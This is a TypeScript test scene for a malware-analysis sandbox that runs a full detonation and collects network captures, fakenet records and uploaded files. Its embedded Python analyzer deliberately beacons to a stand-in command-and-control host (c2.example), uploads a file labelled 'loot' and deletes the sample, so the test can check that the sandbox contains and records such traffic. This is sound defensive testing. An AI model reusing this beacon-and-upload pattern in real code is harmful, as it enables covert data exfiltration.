import type { ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { createReadStream } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { ARTIFACTS, type FakenetRecord } from '#domain/artifacts.js';
import { loadSettings } from '#config/settings.js';
import type { Machine } from '#domain/machine.js';
import { findAnalyzers } from '#guest/analyzers.js';
import type { Machinery } from '#machinery/machinery.js';
import { MachinePool } from '#machinery/pool.js';
import { CertificateAuthority } from '#network/fakenet/ca.js';
import { readCapture } from '#processing/traffic/capture.js';
import { ResultServer } from '#resultserver/resultserver.js';
import { detonate } from '../../../apps/worker/detonate.js';
import { listenForOwnGuests } from '../../../apps/worker/guest-ports.js';
import type { Lab } from '../../../apps/worker/lab.js';
import { channelOf, guestOf } from '../../../apps/worker/labs/machine-lab.js';
import { ownMachineLab } from '../../../apps/worker/labs/own-machines.js';
import { PhaseClock } from '../../../apps/worker/phases.js';
import { aTask } from '../task.js';
import { GUEST_IP, type NamespaceGuest } from './guest.js';
import { NftRouter } from './nft-router.js';
import { MACHINE, patience, type Scene } from './stage.js';

/** As an analyzer of Cuckoo's does it: a log, a dropped file, the end told to the agent; and some malice of its own. */
const ANALYZER = `import configparser, os, socket, urllib.parse, urllib.request
conf = configparser.ConfigParser(interpolation=None)
conf.read("analysis.conf")
conf = conf["analysis"]
def upload(*parts):
    s = socket.create_connection((conf["ip"], int(conf["port"])), 5)
    s.sendall(b"".join(parts)); s.shutdown(1)
    while s.recv(9): pass
upload(b"LOG\\n", b"hello from the analyzer\\n")
stolen = urllib.request.urlopen("http://c2.example/beacon?id=7", timeout=10).status
upload(b"FILE 2\\nfiles/loot\\n/root/loot\\n7 8\\n", b"status %d" % stolen)
os.remove("/tmp/" + conf["file_name"])
data = urllib.parse.urlencode({"status": "complete", "description": "True"}).encode()
urllib.request.urlopen("http://127.0.0.1:8000/status", data, timeout=5).read()
`;

/** A machine that is the guest's namespace: it runs while the agent does. */
class NamespaceMachinery implements Machinery {
  readonly kind = 'namespace';
  readonly machines: readonly Machine[] = [MACHINE];
  #agent: ChildProcess | null = null;

  constructor(private readonly guest: NamespaceGuest) {}

  async prepare(): Promise<void> {}

  async start(): Promise<void> {
    this.#agent = this.guest.spawn('python3', resolve('analyzer-guest/agent/agent.py'), '0.0.0.0', '8000');
  }

  async stop(): Promise<void> {
    const agent = this.#agent;
    this.#agent = null;
    if (agent === null || agent.exitCode !== null) return;
    agent.kill('SIGKILL');
    await once(agent, 'exit');
  }

  async state(): Promise<'running' | 'off'> {
    return this.#agent === null ? 'off' : 'running';
  }

  lost(): AbortSignal {
    return new AbortController().signal;
  }
}

/** A whole analysis on a machine behind a bridge, with an agent and an analyzer of its own kind. */
export const detonated: Scene = async ({ guest, dir }) => {
  const place = `mk-${process.pid}`;
  const analyzers = join(dir, 'analyzer');
  const run = join(dir, 'run');
  await mkdir(join(analyzers, 'linux'), { recursive: true });
  await mkdir(run);
  await writeFile(join(analyzers, 'linux', 'analyzer.py'), ANALYZER);
  await writeFile(join(dir, 'sample'), 'a sample');
  const { settings } = await loadSettings(join(dir, 'conf'));
  const router = new NftRouter();
  const log: string[] = [];
  await using lab = ownMachineLab(new NamespaceMachinery(guest), [MACHINE], {
    ...{
      settings,
      ca: await CertificateAuthority.create(),
      router: { open: (wanted) => router.open(wanted), isThere: async () => true, stopped: () => {} },
    },
    ...{ analyzers: await findAnalyzers(analyzers), analyzersFolder: analyzers },
    log: (_level, message) => void log.push(message),
  });
  await using server = new ResultServer();
  await listenForOwnGuests(server, lab.own?.resultServers ?? [], {
    ip: MACHINE.resultServer.ip,
    onProblem: (line) => void log.push(line),
  });
  const pool = new MachinePool([lab.machinery], { startLimit: 1 });
  const whole: Lab = {
    ...lab,
    openResults: ({ id, dir: to, machine }) => server.open({ id, dir: to, ...channelOf(lab, machine) }),
    guest: (machine) => guestOf(lab, machine),
  };
  const task = aTask({
    target: `${place}.bin`,
    options: `route=inetsim,analpath=${place}`,
    machine: MACHINE.name,
  });
  try {
    await using lease = await pool.acquire(task, patience());
    const { outcome } = await detonate(
      {
        ...{ task, lease, dir: run, samplePath: join(dir, 'sample'), memoryDump: false },
        ...{ timeouts: { analysis: 20, critical: 20, vmState: 20 }, uploadMaxSize: 1 << 20 },
        ...{ phases: new PhaseClock(() => undefined), log: () => undefined },
      },
      whole,
      patience(),
    );
    const { flows } = await readCapture(createReadStream(join(run, ARTIFACTS.pcap)), patience());
    const records = (await readFile(join(run, ARTIFACTS.fakenet), 'utf8')).split('\n').filter(Boolean);
    return {
      outcome,
      log: await readFile(join(run, ARTIFACTS.analysisLog), 'utf8'),
      files: JSON.parse(await readFile(join(run, ARTIFACTS.files), 'utf8')) as unknown,
      loot: await readFile(join(run, 'files', 'loot'), 'utf8'),
      ports: [...new Set(flows.map(({ dport }) => dport))].sort((a, b) => a - b),
      asked: records.map((line) => (JSON.parse(line) as FakenetRecord).kind),
      from: [...new Set(flows.map(({ src }) => src))].map((ip) => (ip === GUEST_IP ? 'the guest' : ip)),
      notes: log,
    };
  } finally {
    await pool.close(patience());
    await rm(`/${place}`, { recursive: true, force: true });
  }
};
